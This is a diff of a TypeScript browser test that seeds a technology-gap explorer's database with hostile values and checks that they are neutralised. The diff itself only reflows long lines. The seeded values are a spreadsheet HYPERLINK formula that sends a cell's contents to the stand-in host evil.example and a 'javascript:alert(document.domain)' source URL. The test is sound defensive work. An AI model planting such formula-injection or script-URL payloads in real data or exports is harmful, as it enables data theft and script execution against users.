@@ -15,8 +15,12 @@ const FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"HBM")';
 beforeAll(async () => {
   t = await startTestApp();
   // Written with Cypher, past the API's checks, as data from before them would be.
-  await t.db.write("MATCH (s:Source {id: 'source:eenews-sk-hynix-hbm3e-volume-production'}) SET s.url = 'javascript:alert(document.domain)'");
-  await t.db.write("MATCH (s:Source {id: 'source:samsung-2024-02-27-hbm3e-12h'}) SET s.url = 'https://example.com/samsung'");
+  await t.db.write(
+    "MATCH (s:Source {id: 'source:eenews-sk-hynix-hbm3e-volume-production'}) SET s.url = 'javascript:alert(document.domain)'",
+  );
+  await t.db.write(
+    "MATCH (s:Source {id: 'source:samsung-2024-02-27-hbm3e-12h'}) SET s.url = 'https://example.com/samsung'",
+  );
   await t.db.write("MATCH (n:Technology {id: 'tech:hbm'}) SET n.name = $name", { name: FORMULA });
   browser = await launch();
 });
@@ -31,7 +35,10 @@ describe('gap explorer with hostile data', () => {
     await w.page.goto(`${t.url}/explore`);
     await waitForView(w.page, 'sector:semiconductors');
     const [csv] = await Promise.all([w.page.waitForEvent('download'), w.page.click('button:has-text("CSV")')]);
-    const lines = readFileSync((await csv.path())!, 'utf8').replace(/^\ufeff/, '').trim().split('\r\n');
+    const lines = readFileSync((await csv.path())!, 'utf8')
+      .replace(/^\ufeff/, '')
+      .trim()
+      .split('\r\n');
     const hbm = lines.find((l) => l.startsWith('tech:hbm,'));
     expect(hbm).toBeDefined();
     expect(hbm!.startsWith(`tech:hbm,"'${FORMULA.replace(/"/g, '""')}",`)).toBe(true);
@@ -48,7 +55,9 @@ describe('gap explorer with hostile data', () => {
     const sources = w.page.locator('[data-panel=technology][data-id="tech:hbm"] ol.sources li');
     await sources.first().waitFor({ timeout: 30_000 });
     await w.page.screenshot({ path: `${SCREENSHOTS}/explorer-hostile-sources.png` });
-    const items = await sources.evaluateAll((els) => els.map((li) => ({ text: li.textContent ?? '', href: li.querySelector('a')?.getAttribute('href') ?? null })));
+    const items = await sources.evaluateAll((els) =>
+      els.map((li) => ({ text: li.textContent ?? '', href: li.querySelector('a')?.getAttribute('href') ?? null })),
+    );
     expect(items.length).toBeGreaterThanOrEqual(2);
     expect(await w.page.locator('a[href^="javascript" i]').count()).toBe(0);
     expect(items.map((i) => i.href)).toContain('https://example.com/samsung');
